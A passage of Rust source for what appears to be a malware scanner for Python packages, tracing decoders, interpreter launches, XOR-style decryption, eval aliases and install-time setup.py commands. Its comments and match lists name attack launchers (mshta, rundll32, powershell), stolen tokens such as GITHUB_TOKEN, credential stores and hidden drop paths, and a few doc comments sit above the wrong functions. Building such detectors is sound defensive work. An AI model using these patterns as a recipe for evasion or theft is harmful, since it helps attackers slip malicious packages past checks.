    /// function being walked: what a caller hands it, not what it obtained itself.
    fn roots_in_parameter(&self, input: &Expr) -> bool {
        chain_root(input, 64).is_some_and(|name| {
            self.enclosing_functions.last().is_some_and(|function| {
                function
                    .parameters
                    .iter()
                    .any(|p| p.name().as_str() == name.id.as_str())
            })
        })
    }

    /// True when a decoder's `input` comes from a constant of the code: a literal, a name bound
    /// to one, or either inside further decoding or method calls (`b64decode(b64decode('…'))`,
    /// `KEY.encode()`). Followed down first arguments without folding: a chain thousands of
    /// calls deep is checked once per level.
    fn constant_input(&self, input: &Expr) -> bool {
        let mut value = input;
        for _ in 0..64 {
            match value {
                Expr::StringLiteral(_) | Expr::BytesLiteral(_) => return true,
                Expr::Name(name) => return self.scopes.constant(name.id.as_str()).is_some(),
                Expr::Call(call) => {
                    value = match (&*call.func, call.arguments.args.first()) {
                        (_, Some(first)) => first,
                        (Expr::Attribute(method), None) => &method.value,
                        _ => return false,
                    };
                }
                Expr::Subscript(subscript) => value = &subscript.value,
                Expr::Attribute(attribute) => value = &attribute.value,
                _ => return false,
            }
        }
        false
    }

    /// True when `input` (past `.encode()`-like calls and subscripts) is a name or item the
    /// walk has no value and no source for: what a decoder of it returns is whatever the code
    /// was handed.
    fn opaque_input(&self, input: &Expr) -> bool {
        let mut value = input;
        loop {
            match value {
                Expr::Call(call)
                    if let Expr::Attribute(method) = &*call.func
                        && matches!(
                            method.attr.as_str(),
                            "encode" | "decode" | "strip" | "rstrip" | "lstrip" | "replace"
                        ) =>
                {
                    value = &method.value;
                }
                Expr::Subscript(subscript) => value = &subscript.value,
                _ => break,
            }
        }
        match value {
            Expr::Name(name) => {
                self.fold(input).is_none()
                    && self.scopes.partial(name.id.as_str()).is_none()
                    && self.scopes.taint_of(name.id.as_str()).is_none()
                    && self.loop_domain(name.id.as_str()).is_none()
            }
            Expr::Attribute(_) => self.fold(input).is_none(),
            _ => false,
        }
    }

    /// The default of `name` when it is a parameter of the innermost function being walked
    /// and the walk has no value for it (no call site bound it).
    pub(crate) fn parameter_default(&self, name: &str) -> Option<&'s Expr> {
        self.enclosing_functions
            .last()?
            .parameters
            .iter_non_variadic_params()
            .find(|p| p.parameter.name.as_str() == name)?
            .default
            .as_deref()
    }

    /// What each parameter of `function` receives from `call`: positional and keyword
    /// arguments, then the parameter's default.
    /// `implicit` leading parameters (a hook's `cls`) are filled by Python, not by `args`.
    fn call_bindings(
        &mut self,
        function: &ast::StmtFunctionDef,
        args: &[Expr],
        keywords: &[ast::Keyword],
        implicit: usize,
    ) -> Vec<ParamBinding> {
        let parameters = &function.parameters;
        let positional = parameters.posonlyargs.iter().chain(parameters.args.iter());
        let mut bindings = Vec::new();
        for (index, parameter) in positional
            .chain(parameters.kwonlyargs.iter())
            .enumerate()
            .skip(implicit)
        {
            let name = parameter.parameter.name.as_str();
            let is_positional = index < parameters.posonlyargs.len() + parameters.args.len();
            let argument = args
                .get(index - implicit)
                .filter(|a| is_positional && !a.is_starred_expr())
                .or_else(|| {
                    keywords
                        .iter()
                        .find(|k| k.arg.as_ref().is_some_and(|a| a.as_str() == name))
                        .map(|k| &k.value)
                });
            let (value, taint) = match argument {
                Some(argument) => (self.fold(argument), self.source_in(argument)),
                None => (
                    parameter.default.as_deref().and_then(|d| self.fold(d)),
                    None,
                ),
            };
            // `grab(r) for r in TARGETS`: the parameter takes each of the loop's listed texts.
            let domain = match (argument, &value) {
                (Some(Expr::Name(looped)), None) => self
                    .loop_domain(looped.id.as_str())
                    .filter(|texts| texts.iter().any(|t| t.trim().len() >= 3))
                    .map(<[String]>::to_vec),
                _ => None,
            };
            // A constant passed by the caller says what the body does; a default does not add
            // anything the plain walk of the body did not see.
            let interesting = argument.is_some()
                && (taint.is_some()
                    || domain.is_some()
                    || match &value {
                        Some(Value::Seq(items)) => !items.is_empty(),
                        Some(other) => other.as_text().is_some_and(|t| t.trim().len() >= 3),
                        None => false,
                    });
            bindings.push(ParamBinding {
                name: name.to_owned(),
                value,
                taint,
                domain,
                interesting,
            });
        }
        // `def first(*names)` called as `first('GITHUB_TOKEN', 'GH_TOKEN')`: the tuple of
        // the arguments past the positional parameters, when each of them folds.
        if let Some(vararg) = &parameters.vararg {
            let named = parameters.posonlyargs.len() + parameters.args.len();
            let rest = args
                .get(named.saturating_sub(implicit)..)
                .unwrap_or_default();
            let items: Option<Vec<Value>> = rest
                .iter()
                .take(64)
                .map(|arg| {
                    if arg.is_starred_expr() {
                        None
                    } else {
                        self.fold(arg)
                    }
                })
                .collect();
            let taint = rest.iter().take(64).find_map(|arg| self.source_in(arg));
            let value = items.filter(|items| !items.is_empty()).map(Value::Seq);
            let interesting = taint.is_some()
                || matches!(&value, Some(Value::Seq(items))
                    if items.iter().any(|i| i.as_text().is_some_and(|t| t.trim().len() >= 3)));
            bindings.push(ParamBinding {
                name: vararg.name.as_str().to_owned(),
                value,
                taint,
                domain: None,
                interesting,
            });
        }
        bindings
    }
}

/// The keyword arguments a literal `kwargs={'shell': True}` dict hands a deferred call.
fn keywords_of(dict: Option<&Expr>) -> Vec<ast::Keyword> {
    let Some(Expr::Dict(dict)) = dict else {
        return Vec::new();
    };
    dict.items
        .iter()
        .take(32)
        .filter_map(|item| {
            let Some(Expr::StringLiteral(key)) = &item.key else {
                return None;
            };
            Some(ast::Keyword {
                node_index: ast::AtomicNodeIndex::default(),
                range: item.value.range(),
                arg: Some(ast::Identifier::new(key.value.to_str(), key.range())),
                value: item.value.clone(),
            })
        })
        .collect()
}

/// The loop domain of a variable over every attribute name of an object: not a listed text.
const EVERY_ATTRIBUTE: &str = "\u{0}every attribute name";

fn is_enumeration(values: &[String]) -> bool {
    matches!(values, [only] if only == EVERY_ATTRIBUTE)
}

/// What an `if` test told the walk about a name, undone after the `if`'s body.
enum Narrowed<'s> {
    /// The name is this browser profile file (its previous partial binding kept to restore).
    File(&'s str, Option<String>),
    /// The name is a file of a credential store, tainted as one.
    Store(&'s str),
}

/// What one parameter is bound to when a function body is walked for a call site.
struct ParamBinding {
    name: String,
    value: Option<Value>,
    taint: Option<usize>,
    /// The texts it takes one by one, when the caller passes a loop variable over them.
    domain: Option<Vec<String>>,
    interesting: bool,
}

/// The program a command line starts, past wrappers that start the rest (`sudo`, `nohup`,
/// `env X=1`, `cmd /c`, `start ""`).
fn program_of(command: &str) -> &str {
    let words = command
        .split(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | ',' | '[' | ']'))
        .filter(|w| !w.is_empty());
    for word in words {
        let name = word
            .rsplit(['/', '\\'])
            .next()
            .unwrap_or(word)
            .to_ascii_lowercase();
        let wrapper = matches!(
            name.trim_end_matches(".exe"),
            "sudo" | "nohup" | "env" | "exec" | "setsid" | "nice" | "timeout" | "doas"
        ) || word.starts_with('-')
            || word.contains('=')
            || word.parse::<u32>().is_ok();
        if !wrapper {
            return word;
        }
    }
    ""
}

/// True when the program a command starts runs the files it is given: shells, interpreters
/// and launchers (`bash x.sh`, `python x.py`, `cmd /c start x.exe`, `open x.app`).
fn starts_its_arguments(command: &str) -> bool {
    let program = program_of(command);
    // A program computed at run time (`[find_pythonw(), path]`) may be any of these.
    if program.is_empty() || program.contains(crate::fold::UNKNOWN) {
        return true;
    }
    let name = program
        .rsplit(['/', '\\'])
        .next()
        .unwrap_or(program)
        .to_ascii_lowercase();
    let name = name.trim_end_matches(".exe");
    matches!(
        name,
        "sh" | "bash"
            | "zsh"
            | "dash"
            | "ksh"
            | "fish"
            | "source"
            | "."
            | "cmd"
            | "start"
            | "powershell"
            | "pwsh"
            | "wscript"
            | "cscript"
            | "mshta"
            | "msiexec"
            | "rundll32"
            | "regsvr32"
            | "open"
            | "xdg-open"
            | "gio"
            | "node"
            | "perl"
            | "ruby"
            | "php"
            | "java"
            | "osascript"
            | "py"
            | "pyw"
    ) || name.starts_with("python")
}

/// True when the file `needle` names is started by `command`: it is the program, or a
/// shell, interpreter or launcher is handed it (`wg-quick up <saved config>` only reads it).
fn starts_named(command: &str, needle: &str) -> bool {
    command.contains(needle)
        && (program_of(command).contains(needle) || starts_its_arguments(command))
}

/// The part of a saved path a command must contain to name it: the text after the last
/// unknown part (`…/x.exe` of `join(gettempdir(), 'x.exe')`), when it is specific enough to
/// be a file name rather than a directory or a bare extension.
fn saved_file_needle(path: &str) -> Option<&str> {
    let known = path
        .rsplit_once(crate::fold::UNKNOWN)
        .map_or(path, |(_, tail)| tail);
    let name = known.rsplit(['/', '\\']).next().unwrap_or(known);
    // `.tmp.sh` is a hidden file name; `.exe` alone is only an extension. A whole absolute
    // path (`/tmp/.kworker`) is specific enough without one.
    let named = name.len() >= 5 && name.trim_start_matches('.').contains('.');
    let absolute = known.len() >= 8
        && name.len() >= 4
        && (known.starts_with('/') || known.starts_with("~/") || known.starts_with("~\\"));
    (named || absolute).then_some(known)
}

/// Python modules a command line runs: `python -m pkg.mod` gives `pkg.mod`, `python3
/// pkg/helper.py` gives `pkg.helper`.
fn programs_in_command(command: &str) -> Vec<String> {
    let words: Vec<&str> = command
        .split(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | ',' | '[' | ']' | '(' | ')'))
        .filter(|w| !w.is_empty())
        .collect();
    let mut modules = Vec::new();
    for (index, word) in words.iter().enumerate() {
        let is_module_name = |w: &str| {
            !w.is_empty()
                && w.split('.')
                    .all(|p| !p.is_empty() && p.chars().all(|c| c.is_alphanumeric() || c == '_'))
        };
        if *word == "-m"
            && let Some(module) = words.get(index + 1).filter(|w| is_module_name(w))
        {
            modules.push((*module).to_owned());
        } else if let Some(script) = word.strip_suffix(".py")
            && index > 0
        {
            let dotted = script.trim_start_matches("./").replace(['/', '\\'], ".");
            if is_module_name(&dotted) {
                modules.push(dotted);
            }
        }
    }
    modules
}

/// True when every handler of `try_stmt` only passes (`except: pass`, `except Exception: ...`):
/// whatever fails inside is hidden from the user.
fn only_passes(try_stmt: &ast::StmtTry) -> bool {
    !try_stmt.handlers.is_empty()
        && try_stmt.handlers.iter().all(|handler| {
            let ast::ExceptHandler::ExceptHandler(handler) = handler;
            handler.body.iter().all(|stmt| match stmt {
                Stmt::Pass(_) | Stmt::Continue(_) => true,
                Stmt::Expr(e) => matches!(&*e.value, Expr::EllipsisLiteral(_)),
                _ => false,
            })
        })
}

/// A method of a compiled regular expression that reads the text it is given
/// (`re.compile(p).match(text)`, `regex.compile(p).sub(repl, text)`).
pub(crate) fn is_pattern_method(qualname: &str) -> bool {
    ["re.compile().", "regex.compile()."]
        .iter()
        .filter_map(|prefix| qualname.strip_prefix(prefix))
        .any(|method| {
            matches!(
                method,
                "match"
                    | "search"
                    | "fullmatch"
                    | "findall"
                    | "finditer"
                    | "split"
                    | "sub"
                    | "subn"
            )
        })
}

/// `chr(ord(c) ^ k)`, `chr(x - 3)`, `bytes(b ^ k for b in data)`: hand-rolled decryption. True
/// when the expression calls `chr`/`bytes`/`bytearray` on arithmetic involving XOR or an offset.
/// True when `name` is bound by the `for` of the comprehension frame `frame` or one around it.
fn bound_by_comprehension(frames: &[(Vec<&str>, usize)], mut frame: usize, name: &str) -> bool {
    while frame != 0 {
        let Some((names, parent)) = frames.get(frame - 1) else {
            return false;
        };
        if names.contains(&name) {
            return true;
        }
        frame = *parent;
    }
    false
}

/// The names a comprehension's `for` target binds (`b`, `(k, v)`), at most 16.
fn comprehension_targets<'e>(target: &'e Expr, names: &mut Vec<&'e str>) {
    let mut stack = vec![target];
    while let Some(node) = stack.pop() {
        if names.len() >= 16 {
            return;
        }
        match node {
            Expr::Name(name) => names.push(name.id.as_str()),
            Expr::Tuple(t) => stack.extend(t.elts.iter()),
            Expr::List(l) => stack.extend(l.elts.iter()),
            Expr::Starred(s) => stack.push(&s.value),
            _ => {}
        }
    }
}

fn is_char_decryption(expr: &Expr) -> bool {
    let mut stack = vec![expr];
    let mut budget = 256usize;
    let mut saw_char_builder = false;
    let mut saw_arithmetic = false;
    while let Some(node) = stack.pop() {
        if budget == 0 {
            break;
        }
        budget -= 1;
        match node {
            Expr::Call(call) => {
                if let Expr::Name(name) = &*call.func
                    && matches!(name.id.as_str(), "chr" | "bytes" | "bytearray")
                {
                    saw_char_builder = true;
                }
                // `chr(ord(c) - 2048 - i % 7)`: a shift cipher over each character of a variable.
                if let Expr::Name(name) = &*call.func
                    && matches!(name.id.as_str(), "chr" | "unichr")
                    && let Some(Expr::BinOp(shift)) = call.arguments.args.first()
                    && matches!(shift.op, ast::Operator::Add | ast::Operator::Sub)
                    && shifts_a_variable_character(&shift.left)
                {
                    saw_arithmetic = true;
                }
                stack.extend(call.arguments.args.iter());
                stack.push(&call.func);
            }
            Expr::BinOp(binop) => {
                if matches!(binop.op, ast::Operator::BitXor) {
                    saw_arithmetic = true;
                }
                stack.push(&binop.left);
                stack.push(&binop.right);
            }
            Expr::Generator(g) => {
                stack.push(&g.elt);
            }
            Expr::ListComp(l) => {
                stack.push(&l.elt);
            }
            Expr::Attribute(a) => stack.push(&a.value),
            _ => {}
        }
    }
    saw_char_builder && saw_arithmetic
}

/// `ord(c)` of a variable, possibly inside more of the shift (`ord(c) - k - j`).
fn shifts_a_variable_character(expr: &Expr) -> bool {
    let mut node = expr;
    // A loop, not recursion: hostile files chain thousands of operators.
    for _ in 0..16 {
        match node {
            Expr::Call(call) => {
                return matches!(&*call.func, Expr::Name(n) if n.id.as_str() == "ord")
                    && call
                        .arguments
                        .args
                        .first()
                        .is_some_and(|a| matches!(a, Expr::Name(_) | Expr::Subscript(_)));
            }
            Expr::BinOp(inner) => node = &inner.left,
            _ => return false,
        }
    }
    false
}

/// `def f(a, b): return <expr>` (a docstring allowed) as a foldable wrapper.
/// The names a `for` statement or a comprehension's `for` binds: `x`, or those of `(k, v)`.
fn loop_names(target: &Expr) -> Vec<&str> {
    match target {
        Expr::Name(name) => vec![name.id.as_str()],
        Expr::Tuple(tuple) => tuple
            .elts
            .iter()
            .filter_map(|e| match e {
                Expr::Name(n) => Some(n.id.as_str()),
                _ => None,
            })
            .collect(),
        _ => Vec::new(),
    }
}

fn wrapper_of(function: &ast::StmtFunctionDef) -> Option<crate::resolve::Wrapper> {
    let parameters = &function.parameters;
    if !parameters.kwonlyargs.is_empty()
        || parameters.vararg.is_some()
        || parameters.kwarg.is_some()
    {
        return None;
    }
    let body: Vec<&Stmt> = function
        .body
        .iter()
        .filter(|s| !matches!(s, Stmt::Expr(e) if matches!(&*e.value, Expr::StringLiteral(_))))
        .collect();
    let (Stmt::Return(ret), prefix) = body.split_last()? else {
        return None;
    };
    if prefix.len() > 8 {
        return None;
    }
    let mut steps = Vec::new();
    for stmt in prefix {
        let Stmt::Assign(assign) = stmt else {
            return None;
        };
        let [Expr::Name(target)] = assign.targets.as_slice() else {
            return None;
        };
        steps.push((target.id.as_str().to_owned(), (*assign.value).clone()));
    }
    let value = ret.value.as_deref()?;
    let params = parameters
        .posonlyargs
        .iter()
        .chain(parameters.args.iter())
        .map(|p| p.parameter.name.as_str().to_owned())
        .collect();
    Some(crate::resolve::Wrapper {
        params,
        steps,
        body: value.clone(),
    })
}

/// `lambda a, b: <expr>` with plain positional parameters, as a foldable wrapper.
fn lambda_wrapper(lambda: &ast::ExprLambda) -> Option<crate::resolve::Wrapper> {
    let params = match lambda.parameters.as_deref() {
        None => Vec::new(),
        Some(parameters) => {
            if !parameters.kwonlyargs.is_empty()
                || parameters.vararg.is_some()
                || parameters.kwarg.is_some()
            {
                return None;
            }
            parameters
                .posonlyargs
                .iter()
                .chain(parameters.args.iter())
                .map(|p| p.parameter.name.as_str().to_owned())
                .collect()
        }
    };
    Some(crate::resolve::Wrapper {
        params,
        steps: Vec::new(),
        body: (*lambda.body).clone(),
    })
}

/// Expressions that build a string from parts: concatenation, `%`, f-strings, `.format`.
/// The name at the root of `payload['source']`, `s.encode('utf-8')`, `self.x.y`: followed
/// through subscripts, attributes and method calls, at most `steps` of them.
fn chain_root(expr: &Expr, steps: usize) -> Option<&ast::ExprName> {
    let mut value = expr;
    for _ in 0..steps {
        match value {
            Expr::Subscript(subscript) => value = &subscript.value,
            Expr::Attribute(attribute) => value = &attribute.value,
            Expr::Call(call) => match &*call.func {
                Expr::Attribute(method) => value = &method.value,
                _ => return None,
            },
            Expr::Name(name) => return Some(name),
            _ => return None,
        }
    }
    None
}

fn is_string_building(expr: &Expr) -> bool {
    match expr {
        Expr::BinOp(binop) => matches!(binop.op, ast::Operator::Add | ast::Operator::Mod),
        Expr::FString(_) => true,
        Expr::Call(call) => {
            matches!(&*call.func, Expr::Attribute(a) if a.attr.as_str() == "format")
        }
        _ => false,
    }
}

impl Checker<'_> {
    /// `def __decode__(self, c): return self._exec(c)` may come before `__init__` binds
    /// `self._exec = eval`: the statements at the top of each method body that bind `self`
    /// attributes to known callables are read before any method is walked.
    fn bind_method_attribute_aliases(&mut self, class_body: &[Stmt]) {
        fn bind_pairs<'e>(target: &'e Expr, value: &'e Expr, pairs: &mut Vec<(&'e str, &'e Expr)>) {
            match (target, value) {
                (Expr::Attribute(attribute), _) if crate::resolve::is_self_attribute(attribute) => {
                    pairs.push((attribute.attr.as_str(), value));
                }
                (Expr::Tuple(targets), Expr::Tuple(values))
                    if targets.elts.len() == values.elts.len() =>
                {
                    for (t, v) in targets.elts.iter().zip(&values.elts) {
                        bind_pairs(t, v, pairs);
                    }
                }
                _ => {}
            }
        }
        let mut pairs = Vec::new();
        for method in class_body {
            let Stmt::FunctionDef(function) = method else {
                continue;
            };
            for statement in &function.body {
                if let Stmt::Assign(assign) = statement {
                    for target in &assign.targets {
                        bind_pairs(target, &assign.value, &mut pairs);
                    }
                }
            }
        }
        for (attribute, value) in pairs {
            // Only names and attributes: a call's result is only known once the call is walked.
            if matches!(value, Expr::Name(_) | Expr::Attribute(_))
                && let Some(target) = self.scopes.qualname(value).filter(|q| is_builtin_sink(q))
            {
                self.scopes.bind_attribute_alias(attribute, Some(target));
            }
        }
    }
}

/// Builtins that run code: the callables worth knowing under another name before the method
/// that binds them is walked.
fn is_builtin_sink(qualname: &str) -> bool {
    matches!(qualname, "eval" | "exec" | "compile" | "__import__")
}

/// Expressions whose value is a reference worth aliasing (`x = os.system`, `m = __import__('os')`).
fn is_reference(expr: &Expr) -> bool {
    match expr {
        Expr::Name(_)
        | Expr::Attribute(_)
        | Expr::Call(_)
        | Expr::Subscript(_)
        | Expr::BoolOp(_) => true,
        // `nc = await nats.connect(url)`.
        Expr::Await(awaited) => matches!(&*awaited.value, Expr::Call(_)),
        _ => false,
    }
}

/// The command a base class names, when its qualified name is setuptools' or distutils'
/// (or a bare imported name): `sdist` for `setuptools.command.sdist.sdist`.
fn command_base(qualname: &str) -> Option<&str> {
    let last = qualname.rsplit('.').next().unwrap_or(qualname);
    (qualname.contains("command")
        || qualname.contains("setuptools")
        || qualname.contains("distutils")
        || qualname == last)
        .then_some(last)
}

/// Commands only a maintainer runs: `pip install` of an sdist builds and installs it, but
/// never makes another sdist or uploads one.
fn is_maintainer_command(qualname: &str) -> bool {
    command_base(qualname).is_some_and(|c| matches!(c, "sdist" | "upload" | "register" | "check"))
}

/// The commands pip runs while installing (or building a wheel of) a source distribution.
const PIP_RUN_COMMANDS: &[&str] = &[
    "install",
    "develop",
    "egg_info",
    "dist_info",
    "build",
    "build_py",
    "build_ext",
    "build_scripts",
    "build_clib",
    "bdist_wheel",
    "bdist_egg",
    "editable_wheel",
    "install_lib",
    "install_scripts",
    "install_data",
    "install_egg_info",
    "easy_install",
];

impl<'s> Checker<'s> {
    /// Walks one branch of an `if`, in "when called" context when its test holds only for a
    /// setup.py command pip never gives.
    fn visit_branch(&mut self, test: Option<&'s Expr>, body: &'s [Stmt]) {
        let maintainer = self.role == FileRole::Setup
            && test.is_some_and(|test| maintainer_argv_test(test, &self.argv_item_names));
        self.maintainer_branch_depth += u32::from(maintainer);
        self.visit_body(body);
        self.maintainer_branch_depth -= u32::from(maintainer);
    }
}

/// True for a test that holds only when setup.py's command line names a command outside
/// [`PIP_RUN_COMMANDS`]: `sys.argv[-1] == 'publish'`, `argv[1] in ('gen', 'clean')`,
/// `'release' in sys.argv`, or a conjunction with one (`len(argv) > 1 and argv[1] == 'pypi'`).
/// Options (`'--cuda' in sys.argv`) reach setup.py through pip, so they do not count; nor
/// does `clean`, which pip runs after a failed build.
#[cfg(test)]
pub(crate) fn is_maintainer_argv_test(test: &Expr) -> bool {
    maintainer_argv_test(test, &[])
}

/// Module-level names a setup script binds to a command-line item (`command = sys.argv[-1]`).
fn setup_argv_item_names(body: &[Stmt]) -> Vec<&str> {
    body.iter()
        .take(4_096)
        .filter_map(|stmt| match stmt {
            Stmt::Assign(assign) if is_argv_item(&assign.value) => {
                match assign.targets.as_slice() {
                    [Expr::Name(name)] => Some(name.id.as_str()),
                    _ => None,
                }
            }
            _ => None,
        })
        .take(16)
        .collect()
}

/// [`is_maintainer_argv_test`], with `argv_names` the names bound to a command-line item
/// (`command = sys.argv[-1]`, then `if command == 'publish':`).
fn maintainer_argv_test(test: &Expr, argv_names: &[&str]) -> bool {
    let is_argv_item = |expr: &Expr| {
        is_argv_item(expr)
            || matches!(expr, Expr::Name(name) if argv_names.contains(&name.id.as_str()))
    };
    let maintainer_word = |expr: &Expr| match expr {
        Expr::StringLiteral(literal) => {
            let word = literal.value.to_str();
            word.starts_with(|c: char| c.is_ascii_lowercase())
                && word
                    .chars()
                    .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '_' || c == '-')
                && word != "clean"
                && !PIP_RUN_COMMANDS.contains(&word)
        }
        _ => false,
    };
    let words = |expr: &Expr| match expr {
        Expr::Tuple(ast::ExprTuple { elts, .. })
        | Expr::List(ast::ExprList { elts, .. })
        | Expr::Set(ast::ExprSet { elts, .. }) => {
            !elts.is_empty() && elts.iter().all(maintainer_word)
        }
        other => maintainer_word(other),
    };
    match test {
        Expr::BoolOp(bool_op) if bool_op.op == ast::BoolOp::And => bool_op
            .values
            .iter()
            .any(|value| maintainer_argv_test(value, argv_names)),
        Expr::Compare(compare) => {
            let ([op], [right]) = (&*compare.ops, &*compare.comparators) else {
                return false;
            };
            let left = &*compare.left;
            match op {
                ast::CmpOp::Eq => {
                    (is_argv_item(left) && maintainer_word(right))
                        || (is_argv_item(right) && maintainer_word(left))
                }
                ast::CmpOp::In => {
                    (maintainer_word(left) && is_argv(right))
                        || (is_argv_item(left) && words(right))
                }
                _ => false,
            }
        }
        _ => false,
    }
}

/// `sys.argv` or a name ending in `argv` (a `main(argv)` parameter).
fn is_argv(expr: &Expr) -> bool {
    match expr {
        Expr::Attribute(attribute) => {
            attribute.attr.as_str() == "argv"
                && matches!(&*attribute.value, Expr::Name(n) if n.id.as_str() == "sys")
        }
        Expr::Name(name) => name.id.as_str().ends_with("argv"),
        Expr::Subscript(subscript) => {
            matches!(&*subscript.slice, Expr::Slice(_)) && is_argv(&subscript.value)
        }
        _ => false,
    }
}

/// One item of the command line: `sys.argv[1]`, `argv[-1]`.
fn is_argv_item(expr: &Expr) -> bool {
    matches!(expr, Expr::Subscript(subscript)
        if !matches!(&*subscript.slice, Expr::Slice(_)) && is_argv(&subscript.value))
}

impl Checker<'_> {
    /// A setup.py class whose base is an author-side command (or such a class of this file)
    /// and whose name is not registered under a command pip runs (`cmdclass={'install': X}`
    /// would run an `sdist` subclass at install time after all).
    fn is_maintainer_command_class(&self, class: &ast::StmtClassDef) -> bool {
        if self.role != FileRole::Setup {
            return false;
        }
        let Some(arguments) = &class.arguments else {
            return false;
        };
        let author_base = arguments.args.iter().any(|base| {
            matches!(base, Expr::Name(n) if self.author_commands.iter().any(|c| c == n.id.as_str()))
                || self
                    .scopes
                    .qualname(base)
                    .is_some_and(|q| is_maintainer_command(&q))
        });
        if author_base {
            return !self.registered_for_pip(class.name.as_str());
        }
        // `class DependenciesCommand(Command)` registered as `'dependencies'`: a command of
        // its own, which runs only when someone names it on the command line; pip names only
        // its own ([`PIP_RUN_COMMANDS`]).
        let generic_base = arguments.args.iter().any(|base| {
            self.scopes
                .qualname(base)
                .is_some_and(|q| command_base(&q) == Some("Command"))
        });
        if !generic_base {
            return false;
        }
        let names = self.registered_command_names(class.name.as_str());
        !names.is_empty()
            && names
                .iter()
                .all(|name| !PIP_RUN_COMMANDS.contains(&name.as_str()))
    }

    /// The command names `name` is registered under in the file: `'dependencies': name`,
    /// `cmdclass['lint'] = name`, `dict(docs=name)`.
    fn registered_command_names(&self, name: &str) -> Vec<String> {
        let mut names = Vec::new();
        for (before, after) in self.identifier_occurrences(name) {
            if names.len() >= 16 {
                break;
            }
            if before.trim_end().ends_with("class") {
                continue;
            }
            // Made or called by the file itself (`Evil(dist).run()`): not only a command.
            if after.trim_start().starts_with(['(', '.']) {
                return Vec::new();
            }
            let Some(key) = before.trim_end().strip_suffix([':', '=']) else {
                continue;
            };
            let key = key.trim_end().trim_end_matches([']', '"', '\'']);
            let start_of_key = key
                .rfind(|c: char| !(c.is_alphanumeric() || c == '_'))
                .map_or(0, |i| i + 1);
            if let Some(command) = key.get(start_of_key..).filter(|k| !k.is_empty()) {
                names.push(command.to_owned());
            }
        }
        names
    }

    /// True when `name` appears as the class of a pip-run command anywhere in the file:
    /// `'install': name`, `cmdclass['build'] = name`, `dict(develop=name)`.
    fn registered_for_pip(&self, name: &str) -> bool {
        self.identifier_occurrences(name).any(|(before, _)| {
            // The text between the command's name and the class: quotes, `:`, `]`, `=`, spaces.
            let key = before.trim_end_matches(|c: char| {
                c.is_whitespace() || matches!(c, ':' | '=' | ']' | '"' | '\'')
            });
            PIP_RUN_COMMANDS.iter().any(|command| {
                key.ends_with(command)
                    && !key
                        .get(..key.len() - command.len())
                        .is_some_and(|k| k.ends_with(|c: char| c.is_alphanumeric() || c == '_'))
            })
        })
    }

    /// The text before and after each place the file names `name` as a whole identifier
    /// (not `name_x`, `x.name` or `xname`).
    fn identifier_occurrences<'t>(
        &'t self,
        name: &'t str,
    ) -> impl Iterator<Item = (&'t str, &'t str)> + 't {
        let mut at = 0;
        std::iter::from_fn(move || {
            while let Some(found) = self.text.get(at..).and_then(|rest| rest.find(name)) {
                let start = at + found;
                at = start + name.len();
                let before = self.text.get(..start).unwrap_or_default();
                let after = self.text.get(at..).unwrap_or_default();
                if !(after.starts_with(|c: char| c.is_alphanumeric() || c == '_')
                    || before.ends_with(|c: char| c.is_alphanumeric() || c == '_' || c == '.'))
                {
                    return Some((before, after));
                }
            }
            None
        })
    }
}

fn is_setuptools_command(qualname: &str) -> bool {
    command_base(qualname).is_some_and(|c| {
        matches!(
            c,
            "install"
                | "develop"
                | "egg_info"
                | "build_py"
                | "sdist"
                | "bdist_egg"
                | "bdist_wheel"
                | "build"
                | "build_ext"
                | "install_lib"
                | "install_scripts"
                | "easy_install"
                | "Command"
        )
    })
}

impl<'s> Visitor<'s> for Checker<'s> {
    fn visit_body(&mut self, body: &'s [Stmt]) {
        rules::dynamic_exec::check_py2_exec_statements(self, body);
        visitor::walk_body(self, body);
    }

    fn visit_stmt(&mut self, stmt: &'s Stmt) {
        if self.depth >= self.max_depth {
            self.depth_exceeded = true;
            return;
        }
        if self.out_of_time() {
            return;
        }
        self.depth += 1;
        self.scopes.forget_call_folds();
        match stmt {
            // A bare string statement is a docstring or a comment: documentation, not behaviour.
            Stmt::Expr(expr)
                if matches!(
                    &*expr.value,
                    Expr::StringLiteral(_) | Expr::BytesLiteral(_) | Expr::FString(_)
                ) =>
            {
                self.note_multiline_string(expr.value.range());
            }
            Stmt::If(if_stmt)
                if self.function_depth == 0 && crate::eager::is_main_guard(&if_stmt.test) =>
            {
                self.main_guard_depth += 1;
                self.visit_body(&if_stmt.body);
                self.main_guard_depth -= 1;
                for clause in &if_stmt.elif_else_clauses {
                    self.visit_body(&clause.body);
                }
            }
            Stmt::Import(_) | Stmt::ImportFrom(_) => self.bind_import(stmt),
            Stmt::Expr(statement) if matches!(&*statement.value, Expr::Call(_)) => {
                let outer = self.discarded_call.replace(statement.value.range());
                self.visit_expr(&statement.value);
                self.discarded_call = outer;
            }
            Stmt::Try(try_stmt) => {
                let silenced = only_passes(try_stmt);
                if silenced {
                    self.silenced_try_depth += 1;
                }
                self.visit_body(&try_stmt.body);
                if silenced {
                    self.silenced_try_depth -= 1;
                }
                self.branch_depth += 1;
                for handler in &try_stmt.handlers {
                    visitor::walk_except_handler(self, handler);
                }
                self.branch_depth -= 1;
                self.visit_body(&try_stmt.orelse);
                self.visit_body(&try_stmt.finalbody);
            }
            Stmt::If(if_stmt) => {
                self.visit_expr(&if_stmt.test);
                let narrowed = self.narrow_to_browser_file(&if_stmt.test);
                self.branch_depth += 1;
                self.visit_branch(Some(&if_stmt.test), &if_stmt.body);
                // Only the body knows the name is that file: `if f == '.env': return False`
                // leaves every other file for what follows.
                match narrowed {
                    Some(Narrowed::File(name, previous)) => match previous {
                        Some(previous) => self.scopes.bind_partial(name, previous),
                        None => self.scopes.unbind(name),
                    },
                    Some(Narrowed::Store(name)) => self.scopes.untaint(name),
                    None => {}
                }
                for clause in &if_stmt.elif_else_clauses {
                    if let Some(test) = &clause.test {
                        self.visit_expr(test);
                    }
                    self.visit_branch(clause.test.as_ref(), &clause.body);
                }
                self.branch_depth -= 1;
            }
            Stmt::Assign(assign) => {
                if let ([Expr::Name(name)], Expr::Dict(dict)) =
                    (assign.targets.as_slice(), &*assign.value)
                    && self.dict_bindings.len() < 64
                {
                    self.dict_bindings.insert(name.id.as_str(), dict);
                }
                if let ([Expr::Name(name)], Expr::Call(call)) =
                    (assign.targets.as_slice(), &*assign.value)
                    && self.method_callers.len() < 64
                    && self.scopes.qualname(&call.func).as_deref() == Some("operator.methodcaller")
                {
                    self.method_callers.insert(name.id.as_str(), call);
                }
                let documents = matches!(assign.targets.as_slice(), [Expr::Name(name)]
